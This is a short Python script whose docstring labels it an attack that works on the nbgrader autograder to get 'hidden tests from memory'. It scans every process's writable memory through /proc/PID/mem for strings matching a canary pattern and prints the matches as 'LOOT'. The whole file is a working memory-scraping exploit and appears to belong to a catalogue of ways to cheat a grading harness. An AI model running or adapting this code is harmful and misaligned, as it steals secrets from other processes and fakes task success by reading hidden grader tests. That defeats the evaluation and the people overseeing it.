"""Search the memory of all processes through /proc/PID/mem.

class: hidden tests from memory
gain: read
nbgrader: works
"""

import contextlib
import os
import re
from pathlib import Path

WANTED = re.compile(rb"canary-[0-9a-f]{4}-\w+")


def search(process):
    maps = (process / "maps").read_text().splitlines()
    with open(process / "mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            first, last = (int(x, 16) for x in span.split("-"))
            private = rights.startswith("rw") and last - first < 2**26
            if private and ".so" not in line:
                with contextlib.suppress(OSError, ValueError):
                    memory.seek(first)
                    for found in set(
                        WANTED.findall(memory.read(last - first))
                    ):
                        print("LOOT", process.name, found)


for process in Path("/proc").glob("[0-9]*"):
    if process.name != str(os.getpid()):
        with contextlib.suppress(OSError):
            search(process)
